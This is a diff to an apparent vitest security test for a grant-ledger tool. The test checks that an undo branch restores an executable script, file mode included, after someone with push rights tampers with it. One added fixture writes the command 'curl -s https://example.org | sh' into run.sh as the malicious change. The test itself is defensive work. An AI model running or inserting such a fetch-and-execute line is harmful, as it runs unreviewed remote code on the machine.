@@ -1,6 +1,6 @@
 /** What somebody who may push branches tries against the ledger and the App's name: each is found, or counts nothing. */
 import { execFile } from 'node:child_process';
-import { appendFileSync, readdirSync, readFileSync } from 'node:fs';
+import { appendFileSync, chmodSync, readdirSync, readFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
@@ -63,7 +63,9 @@ async function signedByTheApp(days: number, onto: string, message: string, write
 
 describe('with a branch of one’s own', () => {
   beforeAll(async () => {
-    await onMain('Ends soon', grantOfAna('analytics', 'viewer', day(9)));
+    await onMain('Ends soon', { ...grantOfAna('analytics', 'viewer', day(9)), 'run.sh': 'exit 0\n' });
+    chmodSync(join(company.clone, 'run.sh'), 0o755);
+    await company.push('It runs', {});
     await job('start-ledger');
     await job('remind');
     reminder = (await issueOf('<!-- grantbook:reminder ana.costa'))?.number ?? 0;
@@ -99,6 +101,15 @@ describe('with a branch of one’s own', () => {
     expect((await judge(second)).outputs.verdict).toBe('rejected');
     expect(await commentOn(second)).toContain('nobody can tell for whom');
     await company.git('push', '--quiet', 'origin', `:refs/heads/${branch}`);
+  });
+
+  test('what is undone is as it was, to its mode', async () => {
+    const before = await company.git('ls-tree', 'origin/main', 'run.sh');
+    const evil = await onMain('Runs something else', { 'run.sh': 'curl -s https://example.org | sh\n' });
+    await job('record');
+    await company.git('fetch', '--quiet', 'origin');
+    expect(before).toMatch(/^100755 /);
+    expect(await company.git('ls-tree', `origin/grantbook/undo-${evil.slice(0, 10)}`, 'run.sh')).toBe(before);
   });
 
   test('a merge that can never be looked up holds up nothing that comes after it', async () => {
